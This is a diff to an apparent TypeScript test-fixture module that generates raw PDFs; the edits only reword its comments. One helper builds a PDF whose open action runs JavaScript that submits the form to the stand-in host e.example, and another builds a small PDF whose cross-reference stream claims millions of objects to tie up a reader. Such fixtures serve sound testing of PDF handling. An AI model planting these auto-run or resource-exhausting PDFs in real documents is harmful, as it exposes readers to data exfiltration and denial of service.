@@ -1,21 +1,21 @@
 import { deflateSync } from "node:zlib";
 
 export type RawPdf = {
-  /** Pages that are really there, and how many the catalogue claims. */
+  /** The number of real pages, and the number in the catalogue. */
   pages?: number;
   count?: number;
-  /** Which pages the tree names, from 0: one may come several times. */
+  /** The pages in the page tree, from 0. A page can occur several times. */
   order?: number[];
-  /** More members of the catalogue, such as an action, and the objects they name. */
+  /** More members of the catalogue, such as an action, and the objects to which they refer. */
   catalog?: string;
   objects?: (string | Buffer)[];
-  /** Between the header and the first object; a comment as far as any reader is concerned. */
+  /** Bytes between the header and the first object. PDF readers ignore them. */
   preamble?: string;
   /** More members of the trailer. */
   trailer?: string;
 };
 
-/** A PDF written byte by byte. Its own objects begin at number 10. */
+/** Returns a PDF written byte by byte. Additional objects start at number 10. */
 export function rawPdf({
   pages = 1,
   order = Array.from({ length: pages }, (_, n) => n),
@@ -78,7 +78,7 @@ export function flateStream(bytes: number, members = ""): Buffer {
   ]);
 }
 
-/** A deck that tries to run a script as soon as it is opened. */
+/** Returns a deck that tries to run a script when it is opened. */
 export function scriptedPdf(script = 'app.alert("aperto"); this.submitForm("https://e.example")') {
   return rawPdf({
     catalog: "/OpenAction 10 0 R /AA << /WC 10 0 R >> /Names << /JavaScript 11 0 R >>",
@@ -90,8 +90,8 @@ export function scriptedPdf(script = 'app.alert("aperto"); this.submitForm("http
 }
 
 /**
- * A PDF of a few kilobytes whose cross-reference stream claims a million objects `sections` times over:
- * seconds of work for a reader. `index` is the key as it is spelled in the file.
+ * Returns a small PDF whose cross-reference stream claims a million objects `sections` times, which costs a reader seconds.
+ * `index` is the spelling of the key in the file.
  */
 export function pdfOfClaims({ sections = 40, index = "/Index" } = {}): Buffer {
   const body = [
